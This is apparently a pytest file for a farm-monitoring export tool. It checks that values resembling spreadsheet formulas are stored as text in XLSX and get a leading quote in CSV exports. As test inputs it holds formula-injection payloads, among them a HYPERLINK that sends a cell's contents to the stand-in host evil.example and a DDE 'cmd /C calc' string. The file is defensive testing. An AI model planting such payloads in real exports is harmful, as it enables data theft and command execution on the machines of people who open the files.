"""Formula injection: book values that a spreadsheet would run (``=HYPERLINK(...)``,
``@SUM(...)``, ``+1+1``) are typed text in XLSX and get a leading ``'`` in CSV exports
(alerts, observations, rejects.csv); plain numbers, numeric columns, Parquet and GeoJSON keep
their values."""

from __future__ import annotations

import csv
import json
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

from agrisat.alerts import update_alerts
from agrisat.book import Farms, write_rejects
from agrisat.csvsafe import defuse_cell, defuse_frame
from agrisat.export import export_alerts
from agrisat.observations import export_observations
from agrisat.store import Store
from agrisat.testing_series import make_farms

from .test_alerts import _look

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"F0243")'
CMD = '@SUM(1+1)*cmd|" /C calc"!A0'
PLUS = "+1+1"
MINUS = "-2+3"


def _book() -> pd.DataFrame:
    """Four farms: two with formula ids, one with a formula loan, one with a formula borrower
    and a region that is a plain negative number as text."""
    farms = make_farms(4)
    farms["farm_id"] = [HYPERLINK, MINUS, "F0002", "F0003"]
    farms["loan_id"] = ["L0", "L1", PLUS, "L3"]
    farms["borrower_id"] = ["B0", "B1", "B2", CMD]
    farms["region"] = ["county-a", "county-a", "county-a", "-12.5"]
    return farms


def _alerts(farms: pd.DataFrame) -> pd.DataFrame:
    rows = []
    for farm in farms["farm_id"]:
        rows += [
            _look(farm, "2026-04-06", "anomalous", onset="2026-04-06", run_looks=1),
            _look(farm, "2026-04-11", "anomalous", onset="2026-04-06", run_looks=2, confirmed=True),
        ]
    alerts = update_alerts(None, pd.DataFrame(rows), farms, run_date="2026-04-11")
    assert len(alerts) == 4
    return alerts


def _csv_cells(path: Path, encoding: str = "utf-8") -> list[list[str]]:
    with path.open(encoding=encoding, newline="") as f:
        return list(csv.reader(f))


def test_defuse_rule() -> None:
    for bad in ("=1+1", "+1+1", "-2+3", "@x", "\tx", "\r=1", "-", "=", "-1e5x"):
        assert defuse_cell(bad) == "'" + bad
    for ok in ("-12.5", "+3", "-1,5", "1.000,50", "-1.5e-3", "F0001", "", "a=b", " =1"):
        assert defuse_cell(ok) == ok
    assert defuse_cell(-3.0) == -3.0 and defuse_cell(None) is None
    df = pd.DataFrame(
        {
            "t": pd.Series(["=1", "ok", None, "-4"], dtype="str"),
            "o": pd.Series([1, "@a", None, 2.5], dtype=object),
            "n": [-1.0, -2.0, np.nan, 3.0],
            "d": pd.to_datetime(["2026-01-01"] * 4),
        }
    )
    out = defuse_frame(df)
    assert out["t"].tolist()[:2] == ["'=1", "ok"] and out["t"].tolist()[3] == "-4"
    assert out["o"].tolist()[:2] == [1, "'@a"] and out["o"].tolist()[3] == 2.5
    assert out["t"].dtype == df["t"].dtype and out["o"].dtype == df["o"].dtype
    pd.testing.assert_series_equal(out["n"], df["n"])
    pd.testing.assert_series_equal(out["d"], df["d"])
    assert df["t"].iloc[0] == "=1"  # the input is not modified
    clean = pd.DataFrame({"t": ["ok", "-1.5", "a\r\nb"], "n": [-1, 2, 3]})
    assert defuse_frame(clean) is clean  # nothing to change: no copy


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_xlsx_stores_book_values_as_text_never_formulas(tmp_path: Path, lang: str) -> None:
    farms = _book()
    alerts = _alerts(farms)
    path = export_alerts(alerts, farms, tmp_path / "a.xlsx", lang=lang)
    wb = openpyxl.load_workbook(path)
    found: dict[str, list[str]] = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if cell.value in (HYPERLINK, CMD, PLUS, MINUS):
                    assert cell.data_type == "s"
                    found.setdefault(str(cell.value), []).append(ws.title)
    alerts_sheet, rollup_sheet = (ws.title for ws in wb.worksheets)
    # values unchanged (no ' added), on the alerts sheet and, for loan/borrower, the roll-up
    assert found[HYPERLINK] == [alerts_sheet] and found[MINUS] == [alerts_sheet]
    assert found[PLUS] == [alerts_sheet, rollup_sheet]
    assert found[CMD] == [alerts_sheet, rollup_sheet]
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, name
    xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert '<is><t>=HYPERLINK("http://evil.example/?x="&amp;A1,"F0243")</t></is>' in xml


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_csv_alerts_get_a_quote_before_formulas(tmp_path: Path, lang: str) -> None:
    farms = _book()
    alerts = _alerts(farms)
    path = export_alerts(alerts, farms, tmp_path / "a.csv", lang=lang)
    cells = _csv_cells(path, "utf-8" if lang == "en" else "utf-8-sig")
    head, body = cells[0], cells[1:]
    col = {name: head.index(name) for name in head}
    farm, loan, borrower, region = (
        col["farm_id" if lang == "en" else "地块编号"],
        col["loan_id" if lang == "en" else "贷款编号"],
        col["borrower_id" if lang == "en" else "借款人编号"],
        col["region" if lang == "en" else "区域"],
    )
    by_farm = {r[farm]: r for r in body}
    assert set(by_farm) == {"'" + HYPERLINK, "'" + MINUS, "F0002", "F0003"}
    assert by_farm["F0002"][loan] == "'" + PLUS
    assert by_farm["F0003"][borrower] == "'" + CMD
    assert by_farm["F0003"][region] == "-12.5"  # a plain number stays as it is
    # nothing else in the file starts like a formula: numbers are numbers
    for r in body:
        for v in r:
            if v[:1] in ("=", "+", "@", "\t", "\r"):
                pytest.fail(f"live formula cell {v!r}")
            if v[:1] == "-":
                float(v)  # a negative number, not text
    score = col["score" if lang == "en" else "异常程度"]
    np.testing.assert_allclose(
        sorted(float(r[score]) for r in body), sorted(alerts["score"].astype(float))
    )


def test_parquet_and_geojson_keep_values_exact(tmp_path: Path) -> None:
    farms = _book()
    alerts = _alerts(farms)
    back = pd.read_parquet(export_alerts(alerts, farms, tmp_path / "a.parquet"))
    assert sorted(back["farm_id"]) == sorted(farms["farm_id"])
    assert set(back["borrower_id"]) == {"B0", "B1", "B2", CMD}
    geo = json.loads(export_alerts(alerts, farms, tmp_path / "a.geojson").read_text())
    assert sorted(f["properties"]["farm_id"] for f in geo["features"]) == sorted(farms["farm_id"])
    assert {f["properties"]["loan_id"] for f in geo["features"]} == {"L0", "L1", PLUS, "L3"}


def test_observations_csv_defused_parquet_exact(tmp_path: Path) -> None:
    obs = pd.DataFrame(
        {
            "farm_id": [HYPERLINK, "F1", "F2"],
            "date": ["2026-04-01"] * 3,
            "item_id": ["S2A_1", "@S2B", "S2C"],
            "status": ["ok", "ok", "cloudy"],
            "clear_fraction": [1.0, 0.5, 0.0],
            "clear_pixels": [10.0, 5.0, 0.0],
            "water_fraction": [0.0, 0.0, np.nan],
            "ndvi_mean": [-0.25, 0.5, np.nan],
            "ndvi_std": [0.01, 0.02, np.nan],
        }
    )
    with Store(tmp_path / "w").transaction() as txn:
        txn.replace("observations", obs)
    export_observations(tmp_path / "w", tmp_path / "o.csv")
    rows = _csv_cells(tmp_path / "o.csv")
    by_farm = {r[0]: r for r in rows[1:]}
    assert set(by_farm) == {"'" + HYPERLINK, "F1", "F2"}
    assert by_farm["F1"][2] == "'@S2B"
    ndvi = rows[0].index("ndvi_mean")
    assert by_farm["'" + HYPERLINK][ndvi] == "-0.25"
    export_observations(tmp_path / "w", tmp_path / "o.parquet")
    back = pd.read_parquet(tmp_path / "o.parquet")
    assert set(back["farm_id"]) == {HYPERLINK, "F1", "F2"} and "@S2B" in set(back["item_id"])


def test_rejects_csv_defused(tmp_path: Path) -> None:
    rejects = pd.DataFrame(
        {
            "source_row": pd.Series([1, 2], dtype="int64"),
            "farm_id": pd.Series([HYPERLINK, "F2"], dtype=str),
            "reason": pd.Series(["negative exposure", "missing crop"], dtype=str),
            "borrower_id": pd.Series([CMD, "\tB2"], dtype=object),
            "exposure": [-5.0, 1.0],
            "note": pd.Series(["-12.5", "\r=2"], dtype=object),
            # a bare CR would end the row and start a new one with the formula
            "region": pd.Series(["x\r=HYPERLINK(1)", "a\r\nb"], dtype=object),
            "geometry_wkt": pd.Series(["POLYGON ((0 0, 1 0, 1 1, 0 0))", ""], dtype=str),
        }
    )
    gdf = make_farms(1).iloc[:0]
    write_rejects(Farms(gdf=gdf, rejects=rejects, source="x.csv"), tmp_path)
    rows = _csv_cells(tmp_path / "rejects.csv")
    assert rows[1][:2] == ["1", "'" + HYPERLINK]
    assert rows[1][3:6] == ["'" + CMD, "-5.0", "-12.5"]
    assert rows[2][3] == "'\tB2" and rows[2][5] == "'\n=2"
    assert len(rows) == 3 and all(len(r) == 8 for r in rows)  # no row split by a CR
    assert rows[1][6] == "x\n=HYPERLINK(1)" and rows[2][6] == "a\r\nb"
    assert rows[1][7] == "POLYGON ((0 0, 1 0, 1 1, 0 0))"
